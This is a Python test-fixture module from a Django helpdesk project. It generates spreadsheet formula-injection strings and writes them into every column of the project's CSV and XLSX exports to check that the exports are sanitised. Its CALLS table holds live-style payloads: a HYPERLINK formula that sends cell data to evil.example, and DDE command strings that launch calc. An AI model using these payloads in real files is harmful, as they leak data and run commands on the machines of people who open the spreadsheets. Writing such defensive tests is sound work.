"""Sixty beginnings that a spreadsheet may take for a formula, and every file of ours with each of them in every column."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from dataclasses import dataclass

from django.urls import reverse

from cpms import clock
from cpms.accounts.models import Centre, CentreMembership, Membership, Network, ThematicGroup, User
from cpms.accounts.roles import Role
from helpdesk import kpis
from helpdesk.exports import evidence_as_workbook, figures_as, header_of
from helpdesk.kpis.evidence import Evidence, Fact
from helpdesk.kpis.periods import Sum
from helpdesk.models import MonthlyKpi
from helpdesk.people import actions
from helpdesk.people.importers.columns import NAMES
from helpdesk.states import Kind
from tests.clients import signed_in
from tests.factories import GroupFactory, UserFactory, give_role

SIGNS = ("=", "+", "-", "@")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\x00", "\u3000", "\u202e", "\u2028")
WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
CALLS = {
    "=": 'HYPERLINK("http://evil.example?x="&A1,"open")',
    "+": "1+cmd|' /C calc'!A0",
    "-": "2+3+cmd|' /C calc'!A0",
    "@": "SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULAS = [f"{before}{sign}{CALLS[sign]}" for before in BEFORE for sign in SIGNS]
FORMULAS += [f"{before}{wide}1+1" for before in BEFORE[:3] for wide in WIDE]
READABLE = [text for text in FORMULAS if "\x00" not in text]
"""A table with a NUL in it is refused, wherever it stands."""


@dataclass(frozen=True)
class File:
    """A file as it leaves: ``columns`` of them hold a hostile text in each of its rows."""

    name: str
    data: bytes
    columns: int
    texts: int = len(FORMULAS)


def figures(kind: Kind) -> File:
    """One row for each formula; every cell of it is that text: period, names of places, figures as if one were a text, what
    rows corrected, and what is left out. The sheet that says what the figures are names the period too."""
    rows = []
    for text in FORMULAS:
        network = Network(code="X", name=text)
        line = MonthlyKpi(network=network, centre=Centre(name=text, country="FI"), country=text)
        line.group = ThematicGroup(network=network, number=1, name=text)
        rows.append(Sum(line, 1, {figure.name: text for figure in kpis.FIGURES}, [text], [text]))
    period = kpis.Period(FORMULAS[0], kpis.period_of("2024-01").months)
    return File(f"figures.{kind}", b"".join(figures_as(kind, rows, period)), len(header_of(period)))


def evidence() -> File:
    """The workbook of a centre's pack: names of the centre, of its networks and people, and words of its figures."""
    found = []
    for text in FORMULAS:
        network, person = Network(code="X", name=text), User(display_name=text, job_title=text)
        place = CentreMembership(network=network, kind=text, since=dt.date(2024, 1, 1))
        found.append((place, Membership(user=person, role=text), (Fact(text, text, Centre, text), [text])))
    places, people, lines = map(list, zip(*found, strict=True))
    centre = Centre(name=FORMULAS[0], city=FORMULAS[0], country=FORMULAS[0])
    pack = Evidence(centre, places, people, [2024], lines, exact=True, computed_at=clock.now())
    return File("evidence.xlsx", evidence_as_workbook(pack), 6)


def tables() -> Iterator[File]:
    """The rows to mend of a table of hospitals and of one of people, as the page gives them."""
    network = GroupFactory(number=1).network
    coordinator = UserFactory(role="none")
    give_role(coordinator, Role.NETWORK_COORDINATOR, network=network)
    for kind, names in NAMES.items():
        header = [name.replace("_", " ") for name in names]
        out = io.StringIO()
        csv.writer(out, quoting=csv.QUOTE_ALL).writerows([header, *([text] * len(header) for text in READABLE)])
        table = actions.read_table(network, data=out.getvalue().encode(), name="list.csv", by=coordinator)
        answer = signed_in(coordinator).get(reverse("people:table_to_mend", args=[table.pk]), secure=True)
        yield File(f"{kind}-to-mend.csv", answer.content, len(header), len(READABLE))


def files() -> list[File]:
    return [figures(Kind.CSV), figures(Kind.XLSX), evidence(), *tables()]
